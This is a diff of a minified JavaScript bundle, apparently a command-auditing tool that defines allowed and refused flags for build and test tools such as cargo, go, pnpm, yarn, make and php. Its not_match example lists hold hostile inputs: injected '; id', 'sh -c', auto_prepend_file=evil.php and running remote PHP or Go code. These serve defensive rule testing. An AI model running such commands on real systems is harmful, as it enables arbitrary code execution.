+f=>f.text),B=l&&{...l,...u&&{nested:u}};return{directory:r,event:i,body:o,words:d,text:a,...B&&{command:B}}}const N$=new Set(
+["--if-present","--include-workspace-root","--workspace","--workspaces"]);async function R$(t,e,{config:n,budget:s}){if(!(t?.
 argv[0]==="npm"&&Object.keys(t.env).length===0)||n.npm_config_ignore_scripts==="true"||(s.left-=1,s.left<0))return;const i=t.
-argv.slice(1).map(l=>({text:l,span:tm,quoted:!0})),{invocation:o,problems:a}=sh(i),c=o.flags.every(({name:l})=>z$.has(l));
-if(!(a.length>0||!c))return sm(o,e,s)}async function J$(t,{tree:e},n){const s=Dp(t),r=(await Jt(e,n))?.scripts.has(s??"");
-if(!(s===void 0||r||tc(t).ifPresent))return{event:s,words:[],text:""}}function Z$(t){return bp(t)||wp(t)||t==="nohup"}function K$(t){
+argv.slice(1).map(l=>({text:l,span:Qp,quoted:!0})),{invocation:o,problems:a}=uh(i),c=o.flags.every(({name:l})=>N$.has(l));
+if(!(a.length>0||!c))return tm(o,e,s)}async function F$(t,{tree:e},n){const s=kp(t),r=(await Jt(e,n))?.scripts.has(s??"");
+if(!(s===void 0||r||ec(t).ifPresent))return{event:s,words:[],text:""}}function L$(t){return yp(t)||Cp(t)||t==="nohup"}function P$(t){
 const{words:e,assignments:n,refused:s,problems:r}=ln(t),i=r.every(({rule:u,severity:d})=>u==="assignment-refused"||d==="\
 warning"&&u!=="unquoted-glob"),o=r.filter(({rule:u})=>u==="assignment-refused").length,[a]=e;if(!i||o!==s.length||a===void 0||
-Z$(a.text)||a.text.includes("="))return;const c=[...n,...s].sort((u,d)=>u.span.start-d.span.start);if(c.some(({name:u})=>u===
-"PATH"))return;const l=Object.fromEntries(c.map(({name:u,value:d})=>[u,d]));return{argv:e.map(u=>u.text),env:l}}const W$=new Set(
+L$(a.text)||a.text.includes("="))return;const c=[...n,...s].sort((u,d)=>u.span.start-d.span.start);if(c.some(({name:u})=>u===
+"PATH"))return;const l=Object.fromEntries(c.map(({name:u,value:d})=>[u,d]));return{argv:e.map(u=>u.text),env:l}}const j$=new Set(
 `browser cache cache-max cache-min fetch-retries if-present include-workspace-root init.author.email
   init.author.name init.author.url init.license init.version legacy-bundling min-release-age offline
-  prefix update-notifier workspace workspaces`.split(/\s+/)),q$=["also","dev","include","omit","only","optional","produc\
-tion"];function V$(t,e){const n=Object.entries(e).filter(([i,o])=>["harmless","honoured"].includes(Xa(i,o))),s=t.map(({name:i,
-value:o,negated:a})=>[i.slice(2),o??a!==!0]),r=[...n,...s].filter(([i])=>!W$.has(i));return Object.fromEntries(r.map(([i,
-o])=>[`npm_config_${i.replaceAll("-","_").toLowerCase()}`,om(o)]))}function om(t){return Array.isArray(t)?t.map(om).join(
+  prefix update-notifier workspace workspaces`.split(/\s+/)),M$=["also","dev","include","omit","only","optional","produc\
+tion"];function G$(t,e){const n=Object.entries(e).filter(([i,o])=>["harmless","honoured"].includes(Ya(i,o))),s=t.map(({name:i,
+value:o,negated:a})=>[i.slice(2),o??a!==!0]),r=[...n,...s].filter(([i])=>!j$.has(i));return Object.fromEntries(r.map(([i,
+o])=>[`npm_config_${i.replaceAll("-","_").toLowerCase()}`,rm(o)]))}function rm(t){return Array.isArray(t)?t.map(rm).join(
 `
 
-`):t==null||t===!1?"":String(t).trim()}function Y$(t){const{name:e,version:n,config:s,engines:r,bin:i}=t,o={};return wc(
-{name:e,version:n,config:s,engines:r,bin:X$(i,e)},"npm_package_",o),Object.fromEntries(Object.entries(o).filter(([a])=>/^[A-Za-z_]\w*$/.
-test(a)))}function wc(t,e,n){for(const[s,r]of Object.entries(t))if(r!==void 0)if(r===null||r===!1)n[`${e}${s}`]="";else if(Array.
-isArray(r))for(const[i,o]of r.entries())wc({[`${s}_${i}`]:o},e,n);else typeof r=="object"?wc(r,`${e}${s}_`,n):n[`${e}${s}`]=
-String(r)}function X$(t,e){const r=Object.entries(bi(t,typeof e=="string"?e:"")??{}).map(([i,o])=>[te.posix.basename(am(
-i)),am(o)]).filter(([i,o])=>i&&o);return r.length>0?Object.fromEntries(r):void 0}function am(t){return te.posix.join("/",
-t.replaceAll("\\","/")).slice(1)}const Q$=new Set;async function eR(t,e={}){const n=rR(t,e),{tree:s,base:r,changed:i=Q$,
-cwd:o="",clock:a,programs:c=Vr}=e,{isOutput:l}=e;if(n.invocation===void 0||n.argv===null)return n;if(s===void 0)return{...n,
-problems:[...n.problems,...tR(n.invocation)]};const u={tree:s,directory:o,changed:i,families:c,...r&&{base:r},...l&&{isOutput:l}},
-{invocation:d}=n,{targets:B,problems:f}=await I$(d,u,a);return{...n,...await nR(d,B,u),targets:B,problems:BR(n.problems,
-f).map(h=>dR(h,n.command))}}function tR(t){return[t,...fi(t)].flatMap(({subcommand:e,operands:[n]})=>e==="exec"&&n&&Vs(n.
-text)&&!Xr(n.text)?[be("tool-unknown",n.span,{tool:n.text})]:[])}async function nR(t,e,n){if(t.program!=="npm"&&t.program!==
-"npx")return{};const s=await sm(t,n),r=e.some(({kind:a,via:c})=>a==="package_binary"&&c===void 0),o=(s?nm(s).some(({text:a})=>sR.
-test(a)):!r)?await kT(n.tree,n.changed):[];return{...s&&{scripts:s},...o.length>0&&{npmSettings:o}}}const sR=/(?:^|[^\w.-])np[mx](?![\w.-])/;
-function rR(t,{tree:e,cwd:n="",programs:s=Vr}={}){if(typeof t!="string")return oR(t);const{words:r,assignments:i,problems:o}=ln(
+`):t==null||t===!1?"":String(t).trim()}function H$(t){const{name:e,version:n,config:s,engines:r,bin:i}=t,o={};return yc(
+{name:e,version:n,config:s,engines:r,bin:z$(i,e)},"npm_package_",o),Object.fromEntries(Object.entries(o).filter(([a])=>/^[A-Za-z_]\w*$/.
+test(a)))}function yc(t,e,n){for(const[s,r]of Object.entries(t))if(r!==void 0)if(r===null||r===!1)n[`${e}${s}`]="";else if(Array.
+isArray(r))for(const[i,o]of r.entries())yc({[`${s}_${i}`]:o},e,n);else typeof r=="object"?yc(r,`${e}${s}_`,n):n[`${e}${s}`]=
+String(r)}function z$(t,e){const r=Object.entries(bi(t,typeof e=="string"?e:"")??{}).map(([i,o])=>[te.posix.basename(im(
+i)),im(o)]).filter(([i,o])=>i&&o);return r.length>0?Object.fromEntries(r):void 0}function im(t){return te.posix.join("/",
+t.replaceAll("\\","/")).slice(1)}const U$=new Set;async function J$(t,e={}){const n=q$(t,e),{tree:s,base:r,changed:i=U$,
+cwd:o="",clock:a,programs:c=qr}=e,{isOutput:l}=e;if(n.invocation===void 0||n.argv===null)return n;if(s===void 0)return{...n,
+problems:[...n.problems,...Z$(n.invocation)]};const u={tree:s,directory:o,changed:i,families:c,...r&&{base:r},...l&&{isOutput:l}},
+{invocation:d}=n,{targets:B,problems:f}=await E$(d,u,a);return{...n,...await K$(d,B,u),targets:B,problems:sN(n.problems,
+f).map(h=>nN(h,n.command))}}function Z$(t){return[t,...fi(t)].flatMap(({subcommand:e,operands:[n]})=>e==="exec"&&n&&Ws(n.
+text)&&!Yr(n.text)?[be("tool-unknown",n.span,{tool:n.text})]:[])}async function K$(t,e,n){if(t.program!=="npm"&&t.program!==
+"npx")return{};const s=await tm(t,n),r=e.some(({kind:a,via:c})=>a==="package_binary"&&c===void 0),o=(s?em(s).some(({text:a})=>W$.
+test(a)):!r)?await pT(n.tree,n.changed):[];return{...s&&{scripts:s},...o.length>0&&{npmSettings:o}}}const W$=/(?:^|[^\w.-])np[mx](?![\w.-])/;
+function q$(t,{tree:e,cwd:n="",programs:s=qr}={}){if(typeof t!="string")return Y$(t);const{words:r,assignments:i,problems:o}=ln(
 t,e&&Mn(e,n)),[a]=r,c=(g,C,y)=>({command:t,words:r,assignments:i,argv:g,...y===void 0?void 0:{invocation:y},targets:[],problems:C});
-if(a===void 0)return c(null,o);const l=_a({problems:o})?r.map(({text:g})=>g):null,{program:u,problem:d}=cR(t,r,s);if(d?.
-rule==="sentence")return c(l,[d,...o]);if(u===void 0)return c(l,[...o,d]);const B=iR(r,o).slice(1),{invocation:f,problems:h}=Ua(
-u,B,s),m=sp(f,n);return c(l,[...o,...h,...m],f)}function iR(t,e){const n=e.find(s=>s.rule==="shell-operator"||xn(s,"line\
--break")&&!s.args.quoted);return n===void 0?t:t.filter(({span:s})=>s.start<n.span.start)}function oR(t){const e=t===null?
+if(a===void 0)return c(null,o);const l=_a({problems:o})?r.map(({text:g})=>g):null,{program:u,problem:d}=Q$(t,r,s);if(d?.
+rule==="sentence")return c(l,[d,...o]);if(u===void 0)return c(l,[...o,d]);const B=V$(r,o).slice(1),{invocation:f,problems:h}=za(
+u,B,s),m=tp(f,n);return c(l,[...o,...h,...m],f)}function V$(t,e){const n=e.find(s=>s.rule==="shell-operator"||xn(s,"line\
+-break")&&!s.args.quoted);return n===void 0?t:t.filter(({span:s})=>s.start<n.span.start)}function Y$(t){const e=t===null?
 "null":Array.isArray(t)?"array":typeof t,n=be("command-not-text",{start:0,end:0},{type:e});return{command:"",words:[],assignments:[],
-argv:null,targets:[],problems:[n]}}const aR=/^(node|npm|npx)(?:\.exe|\.cmd|\.ps1|\.js|-cli(?:\.js)?)?$/i;function cR(t,e,{
+argv:null,targets:[],problems:[n]}}const X$=/^(node|npm|npx)(?:\.exe|\.cmd|\.ps1|\.js|-cli(?:\.js)?)?$/i;function Q$(t,e,{
 allowed:n,offered:s}){const[r]=e,i=r?.text??"",o=hs(i)?i:n.get(i);if(o!==void 0)return{program:o};const a=r?.span??{start:0,
-end:0},c=(d,B)=>({program:void 0,problem:be(d,a,B)}),[,l]=aR.exec(i)??[];if(l===void 0&&MS(t)){const d=e.at(-1)?.span.end??
-a.end;return{program:void 0,problem:be("sentence",{start:a.start,end:d},{})}}const u=lR(i,s);return/[\\/]/.test(i)?c("pr\
+end:0},c=(d,B)=>({program:void 0,problem:be(d,a,B)}),[,l]=X$.exec(i)??[];if(l===void 0&&TS(t)){const d=e.at(-1)?.span.end??
+a.end;return{program:void 0,problem:be("sentence",{start:a.start,end:d},{})}}const u=tN(i,s);return/[\\/]/.test(i)?c("pr\
 ogram-by-path",{program:i,...u}):l!==void 0?c("program-look-alike",{program:i,meant:l.toLowerCase()}):c("program-not-all\
-owed",{program:i,group:ut(i)?.kind??(Ks.has(i)?"npx":"other"),...u,allowed:[...n.keys()]})}const uR=new Map([["gmake","m\
-ake"],["bunx","bun"],["pnpx","pnpm"],["yarnpkg","yarn"],["uvx","uv"],["py.test","pytest"],["py","python"]]);function lR(t,e){
+owed",{program:i,group:ut(i)?.kind??(Js.has(i)?"npx":"other"),...u,allowed:[...n.keys()]})}const eN=new Map([["gmake","m\
+ake"],["bunx","bun"],["pnpx","pnpm"],["yarnpkg","yarn"],["uvx","uv"],["py.test","pytest"],["py","python"]]);function tN(t,e){
 const n=e(t);if(n!==void 0)return{offered:n};const s=t.replace(/^.*[\\/]/,"").replace(/\.(?:exe|cmd|bat|ps1)$/i,"").replace(
-/^(python[23]?|pytest)[-.][\d.]+$/,"$1"),r=uR.get(s)??s,i=e(r);return i===void 0?{offered:""}:{offered:i,word:r}}function dR(t,e){
+/^(python[23]?|pytest)[-.][\d.]+$/,"$1"),r=eN.get(s)??s,i=e(r);return i===void 0?{offered:""}:{offered:i,word:r}}function nN(t,e){
 const n=e.slice(t.span.start,t.span.end);return xn(t,"target-missing")&&/^[^'"\s]*\\[^'"\s]*$/.test(n)?{...t,args:{...t.
-args,written:n}}:t}function BR(t,e){const n=new Set(t.map(cm)),s=[...t];for(const r of e){const i=cm(r);n.has(i)||(n.add(
-i),s.push(r))}return s}function cm({rule:t,span:e,args:n}){return JSON.stringify([t,e.start,e.end,n])}const fR=vt(import.meta.
-url)("node:timers/promises"),um=null;async function Yz(t,e){const n=new AbortController,s=()=>{for(const o of um)process.
-off(o,r)},r=()=>{s(),n.abort()};let i=!1;process.once("exit",()=>{i||(process.exitCode=t)});for(const o of um)process.on(
-o,r);try{await e(n.signal),i=!0}finally{s()}}const hR={wholeMs:3e5,scriptsMs:6e4},pR=50,mR=5e3;class gR{#e;#t;#s=0;#i=0;#r=sr();#n=sr();#c=Promise.
-resolve();constructor(e,n={}){this.#e=e,this.#t={...hR,...n}}tick(){const e=this.#c.then(()=>this.#u());return this.#c=e.
+args,written:n}}:t}function sN(t,e){const n=new Set(t.map(om)),s=[...t];for(const r of e){const i=om(r);n.has(i)||(n.add(
+i),s.push(r))}return s}function om({rule:t,span:e,args:n}){return JSON.stringify([t,e.start,e.end,n])}const rN=vt(import.meta.
+url)("node:timers/promises"),am=null;async function Hz(t,e){const n=new AbortController,s=()=>{for(const o of am)process.
+off(o,r)},r=()=>{s(),n.abort()};let i=!1;process.once("exit",()=>{i||(process.exitCode=t)});for(const o of am)process.on(
+o,r);try{await e(n.signal),i=!0}finally{s()}}const iN={wholeMs:3e5,scriptsMs:6e4},oN=50,aN=5e3;class cN{#e;#t;#s=0;#i=0;#r=tr();#n=tr();#c=Promise.
+resolve();constructor(e,n={}){this.#e=e,this.#t={...iN,...n}}tick(){const e=this.#c.then(()=>this.#u());return this.#c=e.
 catch(()=>{}),e}async tickScript(){this.#i+=this.#o(),await this.tick();const{scriptsMs:e}=this.#t;return this.#i>e?e/1e3:
 void 0}async all(e,n){const s=await Promise.all(e.map(async r=>(await this.tick(),n(r))));return await this.tick(),s}async#u(){
-this.#o(),sr()-this.#n>pR&&(await(0,fR.setImmediate)(),this.#n=sr());const{wholeMs:e}=this.#t;if(this.#e?.aborted)throw(0,Zr.
-VM)("during the audit");if(this.#s>e)throw CR(e)}#o(){const e=sr(),n=Math.min(e-this.#r,mR);return this.#r=e,this.#s+=n,
-n}}function CR(t){return new Zr.ue("audit_too_long",`The audit takes more than ${t/1e3} seconds, which is the limit of a\
- whole audit.`,"Split the change, or reduce the number and length of its commands and npm scripts.")}function sr(){return process.
-uptime()*1e3}const yR={path:"node_modules",at:"anywhere"},lm={dot:!0,nonegate:!0};function dm(t=[],e=[yR]){const n=t.flatMap(
-o=>xe(o)||[]),s=n.length>0?hi(n,lm):()=>!1,r=o=>e.some(a=>a.at!=="home"&&(o===a.path||a.at==="anywhere"&&o.endsWith(`/${a.
-path}`))),i=(o,a)=>a(o)||Kr(o).some(a);return{cover:o=>i(o,r)||i(o,s),areBuilt:o=>i(o,s)&&!i(o,r),mayBeIn:o=>n.some(a=>Bm(
-a.split("/"),o.split("/")))}}function Xz(t){const{cover:e}=dm([],t);return{cover:()=>!0,areBuilt:n=>!e(n),mayBeIn:()=>!1}}
-function Bm([t,...e],[n,...s]){return t===void 0?!1:n===void 0||t.includes("**")||/[{(]/.test(t)?!0:hi.isMatch(n,t,lm)&&
-Bm(e,s)}function Qz(t,e,n){const s=a=>t.stat(a)===void 0&&(n.cover(a)||n.mayBeIn(a))&&foldersAbove(a).every(c=>(t.stat(c)?.
+this.#o(),tr()-this.#n>oN&&(await(0,rN.setImmediate)(),this.#n=tr());const{wholeMs:e}=this.#t;if(this.#e?.aborted)throw(0,Ur.
+VM)("during the audit");if(this.#s>e)throw uN(e)}#o(){const e=tr(),n=Math.min(e-this.#r,aN);return this.#r=e,this.#s+=n,
+n}}function uN(t){return new Ur.ue("audit_too_long",`The audit takes more than ${t/1e3} seconds, which is the limit of a\
+ whole audit.`,"Split the change, or reduce the number and length of its commands and npm scripts.")}function tr(){return process.
+uptime()*1e3}const lN={path:"node_modules",at:"anywhere"},cm={dot:!0,nonegate:!0};function um(t=[],e=[lN]){const n=t.flatMap(
+o=>xe(o)||[]),s=n.length>0?hi(n,cm):()=>!1,r=o=>e.some(a=>a.at!=="home"&&(o===a.path||a.at==="anywhere"&&o.endsWith(`/${a.
+path}`))),i=(o,a)=>a(o)||Jr(o).some(a);return{cover:o=>i(o,r)||i(o,s),areBuilt:o=>i(o,s)&&!i(o,r),mayBeIn:o=>n.some(a=>lm(
+a.split("/"),o.split("/")))}}function zz(t){const{cover:e}=um([],t);return{cover:()=>!0,areBuilt:n=>!e(n),mayBeIn:()=>!1}}
+function lm([t,...e],[n,...s]){return t===void 0?!1:n===void 0||t.includes("**")||/[{(]/.test(t)?!0:hi.isMatch(n,t,cm)&&
+lm(e,s)}function Uz(t,e,n){const s=a=>t.stat(a)===void 0&&(n.cover(a)||n.mayBeIn(a))&&foldersAbove(a).every(c=>(t.stat(c)?.
 kind??"directory")==="directory"),r=new Map,i=a=>(r.has(a)||r.set(a,e.stat(a)),r.get(a)),o=a=>{if(!s(a))return t.stat(a);
 const c=i(a),l=n.cover(a)||c?.kind==="directory";if(!(!c||!l))return{...c,tracked:!1,...n.areBuilt(a)&&{built:!0}}};return{
 label:t.label,...t.attributes&&{attributes:t.attributes},stat:o,readlink:a=>(s(a)?e:t).readlink(a),read:(a,c)=>(s(a)?e:t).
 read(a,c),list:a=>{const c=e.list(a).flatMap(({path:l})=>(s(l)?o(l):void 0)??[]);return[...t.list(a),...c].sort(byEntryPath)},
-files:()=>t.files()}}const wR="warnings|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|unsafe~|nonstandard_\
-style",bR={flags:{text:"exact ignored include-ignored nocapture quiet,q show-output skip= test-threads=","only-prints":"\
-list"}},fm={operands:"text*",behind:bR,flags:{"skips-tests":"no-run"}},_R={risk:"write",alone:"only-prints",flags:{text:`\
+files:()=>t.files()}}const dN="warnings|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|unsafe~|nonstandard_\
+style",BN={flags:{text:"exact ignored include-ignored nocapture quiet,q show-output skip= test-threads=","only-prints":"\
+list"}},dm={operands:"text*",behind:BN,flags:{"skips-tests":"no-run"}},fN={risk:"write",alone:"only-prints",flags:{text:`\
 
       color= frozen locked offline quiet,q verbose,v all all-features all-targets bench? benches bin? bins doc
       example? examples exclude= F,features= jobs,j= keep-going lib message-format= no-default-features no-deps
       no-fail-fast package,p? profile= release,r target? test? tests workspace
     `,path:"C= manifest-path=",output:"target-dir="},refused:{"only-prints":"tree metadata locate-project pkgid version \
 help","uses-network":"install uninstall add remove update fetch vendor init new publish audit outdated","writes-files":"\
-package clean fix"},subcommands:{"test,t,bench":fm,"build,b,check,c,run,r":{operands:"text*"},"doc,d":{operands:"text*",
+package clean fix"},subcommands:{"test,t,bench":dm,"build,b,check,c,run,r":{operands:"text*"},"doc,d":{operands:"text*",
 flags:{text:"document-private-items","outside-code":"open"}},clippy:{operands:"text*",flags:{"tool-writes":"fix allow-di\
 rty allow-staged allow-no-vcs"},behind:{flags:{text:"no-deps",choice:["D","W","A","F","deny","warn","allow","forbid"].map(
-t=>`${t}=${wR}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{
-flags:{text:"check edition= quiet,q verbose,v",config:"config-path="}}},"nextest run":{...fm,flags:{text:"E,filterset= r\
+t=>`${t}=${dN}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{
+flags:{text:"check edition= quiet,q verbose,v",config:"config-path="}}},"nextest run":{...dm,flags:{text:"E,filterset= r\
 etries= test-threads= partition=","skips-tests":"no-run no-tests="}}},directory_flags:["-C"],settings:[".cargo/config.to\
 ml",".cargo/config","rust-toolchain.toml","rust-toolchain"],build_files:["Cargo.toml","build.rs","clippy.toml","rustfmt.\
 toml"],dependencies:[{path:"target",at:"anywhere"},{path:"vendor",at:"anywhere"},{path:".cargo/bin",at:"home"},{path:".c\
@@ -5324,7 +5315,7 @@ argo/git",at:"home"},{path:".cargo/registry",at:"home"},{path:".rustup",at:"home
 CARGO_NET_OFFLINE:"true",CARGO_TERM_COLOR:"never",RUSTUP_AUTO_INSTALL:"0"},match:["cargo test --workspace --all-features\
  name -- --nocapture --test-threads=1","cargo clippy --all-targets -- -D warnings","cargo fmt --all -- --check","cargo r\
 un -- --version"],not_match:["cargo --config build.rustc-wrapper=./x test","cargo +nightly test","cargo clippy -- -Clink\
-er=./x","cargo fmt -- --emit files","cargo test -- --logfile /tmp/x"]},ER={risk:"write",alone:"only-prints",flags:{text:"\
+er=./x","cargo fmt -- --emit files","cargo test -- --logfile /tmp/x"]},hN={risk:"write",alone:"only-prints",flags:{text:"\
 a asan cover covermode= coverpkg= json mod= msan p= race tags= trimpath v work x",path:"C=",config:"modfile= overlay=",output:"\
 o=","outside-code":"exec=","only-prints":"n h help"},refused:{"only-prints":"list version doc help","uses-network":"get \
 install bug","outside-code":"env generate tool work telemetry","writes-files":"clean fix"},subcommands:{test:{operands:"\
@@ -5337,7 +5328,7 @@ refused:{"only-prints":"graph why help","uses-network":"download edit init vendo
 {path:"vendor",at:"anywhere"},{path:"go/pkg/mod",at:"home",variable:"GOMODCACHE"}],environment:{GOPROXY:"off",GOTOOLCHAIN:"\
 local",GOTELEMETRY:"off",GOENV:"off",GOVCS:"*:off"},match:['go test -race -run "TestA|TestB" ./pkg/...',"go test ./... -\
 args -x","go mod verify"],not_match:["go test --exec ./x ./...","go run example.com/x@latest","go test -ldflags=-extldfl\
-ags=-fuse-ld=x ./..."]},kR={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"script-tool-or-file",alone:"only-prints",
+ags=-fuse-ld=x ./..."]},pN={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"script-tool-or-file",alone:"only-prints",
 flags:{text:`
       bail bun,b concurrency= conditions= coverage coverage-reporter= filter,F= if-present no-install
       only-failures randomize reporter= rerun-each= retry= seed= silent smol test-name-pattern,t= timeout=
@@ -5355,7 +5346,7 @@ test:{operands:"tests*"},run:{starts:"script-tool-or-file",alone:"only-prints"}}
 {path:".bun/install/cache",at:"home",variable:"BUN_INSTALL_CACHE_DIR"}],environment:{BUN_CONFIG_NO_INSTALL:"1",DO_NOT_TRACK:"\
 1",BUN_RUNTIME_TRANSPILER_CACHE_PATH:"0"},match:["bun test src/a.test.ts --bail","bun lint","bun run --filter a test","b\
 un scripts/check.ts"],not_match:["bun --eval 1","bun test --preload ../x.ts","bun run ../x.ts","bun ci/e.sh","bun ci/x.w\
-asm"]},vR={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"file",alone:"reads-stdin",flags:{text:`
+asm"]},mN={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"file",alone:"reads-stdin",flags:{text:`
       allow-all,A allow-read,R allow-write,W allow-net,N allow-env,E allow-sys,S allow-run allow-ffi
       deny-read deny-write deny-net deny-env deny-sys deny-run deny-ffi no-prompt cached-only check
       no-check no-remote no-npm no-lock frozen quiet,q seed= ignore= parallel fail-fast shuffle filter=
@@ -5373,7 +5364,7 @@ flags:{"outside-code":"eval",path:"cwd="}}},build_files:["deno.json","deno.jsonc
 anywhere"},{path:"vendor",at:"root"},{path:".cache/deno",at:"home",variable:"DENO_DIR"}],environment:{DENO_NO_UPDATE_CHECK:"\
 1",DENO_NO_PROMPT:"1",DENO_NO_PACKAGE_JSON:"0"},match:["deno test --allow-read=/tmp --allow-write=/tmp","deno fmt --chec\
 k","deno task test"],not_match:["deno test --allow-ffi=/tmp/x.so tests","deno run npm:cowsay","deno run x.sh","deno x.wa\
-sm"]},DR={risk:"write",operands:"text*",completes:!0,flags:{text:`
+sm"]},gN={risk:"write",operands:"text*",completes:!0,flags:{text:`
       B,always-make b debug? d j,jobs? k,keep-going l,load-average,max-load? m output-sync,O?
       no-print-directory,w print-directory no-keep-going,stop,S R,no-builtin-variables r,no-builtin-rules
       s,silent,quiet no-silent shuffle? trace warn-undefined-variables
@@ -5384,7 +5375,7 @@ blish publish-~ deploy deploy-~ release upload","writes-files":"uninstall","neve
 variables:["V","VERBOSE"],directory_flags:["-C","--directory"],build_files:["Makefile","makefile","GNUmakefile","*.mk","\
 CMakeLists.txt","configure"],environment:{MAKEFLAGS:"",GNUMAKEFLAGS:"",MAKEFILES:""},match:["make","make -C packages/a t\
 est","make -j4 check V=1","make -f build/Makefile test"],not_match:["make test SHELL:=./x",'make test ARGS="; id"',"make\
- -I ../x test","make test CC=-x"]},xR={risk:"safe",starts:"script-or-tool",alone:"only-prints",flags:{text:`
+ -I ../x test","make test CC=-x"]},CN={risk:"safe",starts:"script-or-tool",alone:"only-prints",flags:{text:`
       aggregate-output color,no-color filter,F= filter-prod= if-present include-workspace-root loglevel=
       no-bail no-sort bail parallel recursive,r reporter= reporter-hide-prefix sequential silent,s sort
       stream w workspace-concurrency= workspace-root
@@ -5403,7 +5394,7 @@ workspace.yaml",".pnpmfile.cjs",".pnpmfile.mjs"],dependencies:[{path:"node_modul
 false",npm_config_package_manager_strict:"false",npm_config_verify_deps_before_run:"false",pnpm_config_verify_deps_before_run:"\
 false",COREPACK_ENABLE_NETWORK:"0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["pnpm lint --max-\
 warnings 0","pnpm --filter a... test","pnpm vitest run --coverage"],not_match:['pnpm exec sh -c "id"',"pnpm --config.scr\
-ipt-shell=./x test","pnpm exec tsx -e 1"]},OR={starts:"script-or-tool",alone:"uses-network",flags:{text:`
+ipt-shell=./x test","pnpm exec tsx -e 1"]},yN={starts:"script-or-tool",alone:"uses-network",flags:{text:`
       frozen-lockfile json mutex= no-progress non-interactive offline silent,s verbose top-level,T
       binaries-only,B include= exclude= from= jobs,j= interlaced,i parallel,p topological,t topological-dev
       recursive,R worktree,W since? all,A no-private
@@ -5423,17 +5414,17 @@ nv.yarn .pnp.cjs .pnp.loader.mjs .yarn/plugins .yarn/releases".split(" "),depend
 e"},{path:".pnp.cjs",at:"root"},{path:".pnp.loader.mjs",at:"root"},{path:".yarn",at:"root"},{path:".yarn/berry/cache",at:"\
 home"}],environment:{YARN_ENABLE_NETWORK:"0",YARN_ENABLE_TELEMETRY:"0",YARN_ENABLE_GLOBAL_CACHE:"1",COREPACK_ENABLE_NETWORK:"\
 0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["yarn lint --max-warnings 0","yarn workspace a ru\
-n test","yarn jest --ci"],not_match:["yarn","yarn exec bash","yarn --cwd ../x test","yarn --use-yarnrc x test"]},hm=[{path:"\
-vendor",at:"anywhere"}],AR={starts:"file",extensions:"php",alone:"reads-stdin",flags:{choice:"d=display_errors=~|display\
+n test","yarn jest --ci"],not_match:["yarn","yarn exec bash","yarn --cwd ../x test","yarn --use-yarnrc x test"]},Bm=[{path:"\
+vendor",at:"anywhere"}],wN={starts:"file",extensions:"php",alone:"reads-stdin",flags:{choice:"d=display_errors=~|display\
 _startup_errors=~|error_reporting=~|memory_limit=~|max_execution_time=~|date.timezone=~|assert.exception=1|zend.assertio\
 ns=1|xdebug.mode=off|xdebug.mode=coverage|pcov.enabled=1","checks-syntax-only":"l,syntax-check","outside-code":"r,run= c\
 ,php-ini=","reads-stdin":"a,interactive","only-prints":"i,info m,modules ini s,syntax-highlight w,strip"},dependency_tools:[
-"phpunit"],dependencies:hm,match:["php scripts/check.php --strict","php -d memory_limit=1G -ddisplay_errors=1 scripts/ch\
+"phpunit"],dependencies:Bm,match:["php scripts/check.php --strict","php -d memory_limit=1G -ddisplay_errors=1 scripts/ch\
 eck.php","php bin/console lint:yaml config","php -l src/a.php","php vendor/bin/phpunit --testdox tests","php ./vendor/ph\
 punit/phpunit/phpunit -c phpunit.xml"],not_match:["php",'php -r "echo 1;"',"php -d auto_prepend_file=evil.php x.php","ph\
 p -dauto_prepend_file=evil.php x.php","php -c evil.ini x.php","php -S localhost:80","php -f x.php","php scripts/x.sh","p\
 hp tool.phar","php https://x.test/y.php","php vendor/bin/phpunit --bootstrap ../x.php","php vendor/bin/phpunit --unknown"]},
-SR={operands:"tests*",flags:{text:`
+bN={operands:"tests*",flags:{text:`
       testsuite= exclude-testsuite= group= exclude-group= filter= exclude-filter= test-suffix=
       process-isolation stop-on-defect stop-on-error stop-on-failure stop-on-warning fail-on-warning
       fail-on-risky fail-on-deprecation fail-on-notice fail-on-skipped fail-on-incomplete
@@ -5445,9 +5436,9 @@ SR={operands:"tests*",flags:{text:`
 l=","outside-code":"loader=","tool-writes":"generate-baseline= generate-configuration migrate-configuration","skips-test\
 s":"do-not-fail-on-empty-test-suite do-not-fail-on-warning do-not-fail-on-risky ignore-baseline","only-prints":"list-sui\
 tes list-groups list-tests list-tests-xml= atleast-version= check-version"},settings:["vendor"],build_files:["phpunit.xm\
-l","phpunit.xml.dist","phpunit.dist.xml","composer.json"],dependencies:hm,match:["phpunit","phpunit --colors=never --fil\
+l","phpunit.xml.dist","phpunit.dist.xml","composer.json"],dependencies:Bm,match:["phpunit","phpunit --colors=never --fil\
 ter testA tests/ATest.php"],not_match:["phpunit --bootstrap=../x.php","phpunit -c /etc/x.xml","phpunit --extension X"]},
-TR={alone:"only-prints",flags:{text:`
+_N={alone:"only-prints",flags:{text:`
       check color= diff exclude= exit-non-zero-on-fix exit-non-zero-on-format extend-exclude= extend-ignore=
       extend-select= fixable= force-exclude ignore= ignore-noqa isolated line-length= no-cache,n
       output-format= per-file-ignores= preview quiet,q respect-gitignore select= silent,s statistics
@@ -5456,8 +5447,8 @@ TR={alone:"only-prints",flags:{text:`
 er-ends":"watch,w","reads-stdin":"stdin-filename=",weakens:"exit-zero,e","only-prints":"help,h version,V show-files show\
 -settings"},refused:{"only-prints":"rule config linter version help analyze","writes-files":"clean","never-ends":"server"},
 subcommands:{check:{},format:{unless:{"tool-writes":"check diff"}}},build_files:["ruff.toml",".ruff.toml","pyproject.tom\
-l"],dependencies:Ys,environment:{RUFF_NO_CACHE:"true"},match:["ruff check","ruff check src --select E","ruff format --ch\
-eck","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonsense"]},IR={completes:!0,
+l"],dependencies:qs,environment:{RUFF_NO_CACHE:"true"},match:["ruff check","ruff check src --select E","ruff format --ch\
